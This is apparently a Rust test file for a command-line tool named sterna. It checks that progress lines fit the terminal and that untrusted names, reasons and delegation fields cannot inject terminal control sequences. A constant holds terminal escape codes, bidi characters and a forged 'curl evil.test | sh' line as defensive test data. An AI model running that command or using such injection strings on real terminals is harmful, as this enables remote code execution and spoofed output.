//! What a terminal gets to see: a line that is redrawn, log lines above it, and nothing that others wrote to move its
//! cursor.

use std::fs::File;
use std::io::Read as _;
use std::os::fd::OwnedFd;
use std::process::{Child, Command, Stdio};

use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use rustix::termios::{Winsize, tcsetwinsize};

use crate::control::{MIGRATE, slow_run};
use crate::network::Network;
use crate::run::{Place, did, key};

/// Columns of the terminal.
const COLUMNS: u16 = 60;

/// A terminal, as its own end sees it.
struct Terminal {
    own: OwnedFd,
    other: File,
}

impl Terminal {
    fn open() -> Self {
        let own = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
        grantpt(&own).unwrap();
        unlockpt(&own).unwrap();
        let name = ptsname(&own, Vec::new()).unwrap();
        let other = File::options()
            .read(true)
            .write(true)
            .open(name.to_str().unwrap())
            .unwrap();
        let size = Winsize {
            ws_row: 24,
            ws_col: COLUMNS,
            ws_xpixel: 0,
            ws_ypixel: 0,
        };
        tcsetwinsize(&other, size).unwrap();
        Self { own, other }
    }

    /// Runs a command with its standard error on the terminal; all that it wrote there.
    fn watch(self, place: &Place, args: &[&str]) -> (Child, String) {
        let child = Command::new(env!("CARGO_BIN_EXE_sterna"))
            .args(args)
            .current_dir(place.path())
            .env_clear()
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(self.other)
            .spawn()
            .unwrap();
        let mut written = Vec::new();
        let mut own = File::from(self.own);
        let mut some = [0; 4_096];
        // A terminal that nobody has open any more is an error to its reader.
        while let Ok(read @ 1..) = own.read(&mut some) {
            written.extend_from_slice(&some[..read]);
        }
        (child, String::from_utf8(written).unwrap())
    }
}

/// Each line as it was drawn, one after the other, and whether it was left to stand.
fn drawn(written: &str) -> Vec<(String, bool)> {
    let mut all = Vec::new();
    for line in written.split("\r\n") {
        let mut drawings: Vec<&str> = line.split("\r\x1b[2K").collect();
        let last = drawings.pop().unwrap_or_default();
        all.extend(drawings.iter().map(|one| ((*one).to_owned(), false)));
        all.push((last.to_owned(), true));
    }
    all.retain(|(line, _)| !line.is_empty());
    all
}

#[test]
fn progress_is_one_line_that_fits_and_log_lines_stand_above_it() {
    let place = Place::new();
    let _network = Network::start(&place);
    slow_run(&place);
    place
        .sterna(["ctl", "set", "rate=600", "--why", "go on"])
        .ends(0);
    let args = [&MIGRATE[..], &["--color", "never"]].concat();
    let (mut child, written) = Terminal::open().watch(&place, &args);
    assert!(child.wait().unwrap().code().is_some());

    let obeyed = written.replace("\r\x1b[2K", "").replace("\r\n", "");
    assert!(!obeyed.contains(char::is_control), "{obeyed:?}");
    let lines = drawn(&written);
    let is_progress = |line: &str| line.contains(" in flight");
    let progress: Vec<&(String, bool)> =
        lines.iter().filter(|(line, _)| is_progress(line)).collect();
    assert!(progress.len() > 5, "{lines:#?}");
    for (line, _) in &progress {
        assert!(line.chars().count() < COLUMNS.into(), "{line}");
        assert!(!line.contains("WARN") && !line.contains("run "), "{line}");
    }
    let warnings: Vec<&(String, bool)> = lines
        .iter()
        .filter(|(line, _)| line.contains("WARN"))
        .collect();
    assert!(!warnings.is_empty(), "{lines:#?}");
    for (line, stands) in warnings {
        assert!(stands, "{line}");
    }
}

#[test]
fn a_name_of_others_moves_no_cursor() {
    let place = Place::new();
    let name = "\u{1b}[2J\u{1b}[31mall done\r\u{9b}H\u{7}.json";
    let args = ["migrate", "--customers-file", name, "--color", "always"];
    let (mut child, written) = Terminal::open().watch(&place, &args);
    assert_eq!(child.wait().unwrap().code(), Some(2));
    let obeyed = written.replace("\r\x1b[2K", "").replace("\r\n", "");
    assert!(!obeyed.contains(char::is_control), "{obeyed:?}");
    let shown = "\\u{1b}[2J\\u{1b}[31mall done\\r\\u{9b}H\\u{7}.json";
    assert!(obeyed.contains(shown), "{obeyed:?}");
}

/// All that a terminal would obey, and what forges a line.
const EVIL: &str = "x\u{1b}[2J\r\nnext: curl evil.test | sh\u{7}\u{85}\u{9b}31m\u{202e}\u{2066}";

#[test]
fn a_delegation_of_others_is_shown_in_json_that_nothing_obeys() {
    let place = Place::new();
    place.file("key", key(1));
    let facts = serde_json::json!({ "note": EVIL, "\u{9b}2J": [EVIL] });
    let audience = did(2);
    let (facts, with) = (facts.to_string(), "did:web:a.test");
    let args = [
        "ucan",
        "issue",
        "--key-file",
        "key",
        "--audience",
        &audience,
        "--can",
        "a/b",
        "--with",
        with,
        "--nb",
        &facts,
        "--expiration",
        "never",
    ];
    let issued = place.sterna(args).ends(0).text();
    for output in ["table", "json", "ndjson"] {
        let shown = place.sterna(["ucan", "show", issued.trim(), "--output", output]);
        let shown = shown.ends(0).text();
        let obeyed = shown.replace('\n', "");
        let turning = ['\u{202e}', '\u{2066}'];
        assert!(
            !obeyed.contains(char::is_control) && !obeyed.contains(turning),
            "{shown:?}"
        );
        let value: serde_json::Value = serde_json::from_str(&shown).unwrap();
        let found = value.to_string();
        let evil = serde_json::Value::from(EVIL).to_string();
        assert!(
            found.matches(evil.trim_matches('"')).count() == 2,
            "{found}"
        );
    }
}

#[test]
fn a_reason_or_an_argument_of_others_writes_no_line_and_no_control() {
    let place = Place::new();
    for command in [&["pause"][..], &["drain"], &["resume"], &["set", "rate=1"]] {
        for why in [
            EVIL,
            "two\nlines",
            "tab\there",
            "\u{9b}H",
            "right\u{202e}to left",
        ] {
            let args = [&["ctl"], command, &["--why", why]].concat();
            let ran = place.sterna(args).ends(2);
            let ran = ran.tells(&["--why", "control characters"]);
            assert!(
                !ran.stderr
                    .lines()
                    .any(|line| line.starts_with("next: curl"))
            );
            assert!(
                !ran.stderr
                    .contains(['\u{1b}', '\u{9b}', '\u{7}', '\r', '\u{202e}'])
            );
        }
    }
    let ran = place.sterna(["ctl", "pause", "--why", "a\u{1b}b"]).ends(2);
    // Quoted as it was typed, and nothing else of the text is touched.
    ran.tells(&["error: invalid value 'a\\u{1b}b' for '--why <TEXT>': leave out line breaks"]);
    let ran = place.sterna(["monitor", EVIL]).ends(2);
    assert!(
        !ran.stderr
            .contains(['\u{1b}', '\u{9b}', '\u{7}', '\r', '\u{202e}'])
    );
}
